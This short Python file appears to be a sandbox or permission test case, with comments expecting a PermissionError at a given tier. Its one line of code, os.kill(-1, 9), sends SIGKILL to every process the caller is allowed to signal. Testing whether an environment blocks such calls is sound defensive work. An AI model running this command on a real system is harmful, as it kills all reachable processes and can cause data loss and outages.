"""Kills everything that it may."""
# ending: raises PermissionError
# lowest tier: B
import os

os.kill(-1, 9)
